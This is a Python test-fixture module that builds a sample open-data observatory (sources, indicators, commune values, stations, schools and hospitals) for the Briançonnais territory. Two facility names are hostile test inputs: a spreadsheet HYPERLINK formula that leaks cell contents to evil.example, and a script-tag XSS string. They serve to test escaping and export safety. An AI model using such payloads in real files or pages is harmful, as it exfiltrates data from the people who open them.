"""A small observatory for the open-data tests: indicators, values of every status, facilities
inside, near and outside a territory, sources under Licence Ouverte and under the ODbL.

Built on any territory (the shipped Grand Briançonnais or a factory-made one); figures are
taken from the shipped extracts' sources (SOURCES.md) so that what the tests read looks real.
"""

import datetime
from dataclasses import dataclass

from alpsatellites.observatory.models import (
    Direction,
    Facility,
    FacilityKind,
    FeasibilityWeights,
    Indicator,
    IndicatorValue,
    NearestFacility,
    Theme,
    ValueStatus,
)
from alpsatellites.territories.models import Commune, Source, Territory
from tests.factories import SourceFactory

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
MARKUP_NAME = '<script>alert("x")</script> Collège & Lycée'


@dataclass
class World:
    territory: Territory
    first: Commune
    second: Commune
    insee: Source
    arcep: Source
    sncf: Source
    education: Source
    finess: Source
    fibre: Indicator
    population: Indicator
    income: Indicator
    station: Facility
    hostile: Facility
    markup: Facility
    hospital: Facility


def indicator(code: str, source: Source, **fields) -> Indicator:
    defaults = {
        "label_fr": code,
        "label_en": code,
        "theme": Theme.DEMOGRAPHY,
        "direction": Direction.NEUTRAL,
        "in_index": False,
        "unit": "",
    }
    defaults.update(fields)
    found, _created = Indicator.objects.update_or_create(
        code=code, defaults={"source": source, **defaults}
    )
    return found


def value(ind: Indicator, commune: Commune, year: int, number, **fields) -> IndicatorValue:
    status = fields.pop("status", ValueStatus.KNOWN)
    return IndicatorValue.objects.create(
        indicator=ind,
        commune=commune,
        value=number,
        status=status,
        reference_date=fields.pop("reference_date", datetime.date(year, 1, 1)),
        period=fields.pop("period", str(year)),
        source=fields.pop("source", ind.source),
    )


def facility(kind: str, name: str, source: Source, commune: Commune | None, **fields) -> Facility:
    return Facility.objects.create(
        kind=kind,
        name=name,
        source=source,
        commune=commune,
        commune_code=fields.pop("commune_code", commune.code if commune else ""),
        external_id=fields.pop("external_id", name[:20]),
        latitude=fields.pop("latitude", 44.9),
        longitude=fields.pop("longitude", 6.63),
        **fields,
    )


def build_world(territory: Territory, first_code: str = "", second_code: str = "") -> World:
    communes = Commune.objects.filter(territory=territory).order_by("code")
    first = communes.get(code=first_code) if first_code else communes[0]
    second = communes.get(code=second_code) if second_code else communes.exclude(pk=first.pk)[0]
    insee = SourceFactory(
        key="insee-comparateur",
        title="Comparateur de territoires",
        publisher="INSEE",
        licence="Licence Ouverte 2.0",
        licence_url="https://www.etalab.gouv.fr/licence-ouverte-open-licence/",
        version="2025",
    )
    arcep = SourceFactory(
        key="arcep-ftth",
        title="Le marché du haut et très haut débit fixe",
        publisher="ARCEP",
        licence="Licence Ouverte 2.0",
        licence_url="https://www.etalab.gouv.fr/licence-ouverte-open-licence/",
        version="T3 2025",
    )
    sncf = SourceFactory(
        key="sncf-gares",
        title="Gares de voyageurs",
        publisher="SNCF Gares & Connexions",
        licence="ODbL 1.0",
        licence_url="https://opendatacommons.org/licenses/odbl/1-0/",
        # Long words as real sources have them (a commit hash): pages must wrap them.
        version="copy of 2026-01-20 (commit 65aeafb687dd1b427faeca6f0f53da81b5e5d5b0)",
    )
    education = SourceFactory(
        key="education-colleges",
        title="Adresse et géolocalisation des établissements",
        publisher="Ministère de l'Éducation nationale",
        licence="Licence Ouverte 2.0",
        licence_url="https://www.etalab.gouv.fr/licence-ouverte-open-licence/",
        version="2024",
    )
    finess = SourceFactory(
        key="gisco-healthcare",
        title="Healthcare services",
        publisher="Eurostat GISCO",
        licence="Licence Ouverte 2.0",
        version="2020",
    )
    fibre = indicator(
        "fibre_share",
        arcep,
        label_fr="Part des locaux raccordables à la fibre",
        label_en="Share of premises connectable to fibre",
        theme=Theme.CONNECTIVITY,
        direction=Direction.HIGHER,
        in_index=True,
        unit="%",
        decimals=1,
    )
    population = indicator(
        "population", insee, label_fr="Population", label_en="Population", unit="inhabitants"
    )
    income = indicator(
        "median_income",
        insee,
        label_fr="Revenu médian",
        label_en="Median income",
        theme=Theme.ECONOMY,
        unit="€",
    )
    value(fibre, first, 2025, 94.7, reference_date=datetime.date(2025, 9, 30), period="T3 2025")
    value(fibre, second, 2025, 65.4, reference_date=datetime.date(2025, 9, 30), period="T3 2025")
    value(population, first, 2016, 11950)
    value(population, first, 2022, 10748)
    value(income, first, 2021, 21630)
    value(income, second, 2021, None, status=ValueStatus.SECRET)
    station = facility(
        FacilityKind.STATION,
        "Briançon",
        sncf,
        first,
        external_id="87763607",
        latitude=44.889853,
        longitude=6.633007,
        details={"lines": ["Briançon – Paris (night)"]},
    )
    hostile = facility(FacilityKind.COLLEGE, HOSTILE_NAME, education, first, external_id="0050043V")
    markup = facility(FacilityKind.LYCEE, MARKUP_NAME, education, second, external_id="0050006V")
    # Outside the territory, but the nearest hospital of one of its communes: it belongs in.
    hospital = facility(
        FacilityKind.HOSPITAL,
        "Centre hospitalier de Gap",
        finess,
        None,
        commune_code="05061",
        external_id="50000033",
        latitude=44.56,
        longitude=6.08,
    )
    NearestFacility.objects.create(
        commune=second,
        kind=FacilityKind.HOSPITAL,
        facility=hospital,
        distance_km=68.2,
        method="town_hall",
    )
    # Far away and nobody's nearest: not the territory's.
    facility(
        FacilityKind.HOSPITAL,
        "Hôpital de Lyon",
        finess,
        None,
        commune_code="69123",
        external_id="690000",
        latitude=45.75,
        longitude=4.85,
    )
    FeasibilityWeights.objects.update_or_create(
        territory=territory, defaults={"weights": {"connectivity": 2, "economy": 1}}
    )
    return World(
        territory,
        first,
        second,
        insee,
        arcep,
        sncf,
        education,
        finess,
        fibre,
        population,
        income,
        station,
        hostile,
        markup,
        hospital,
    )
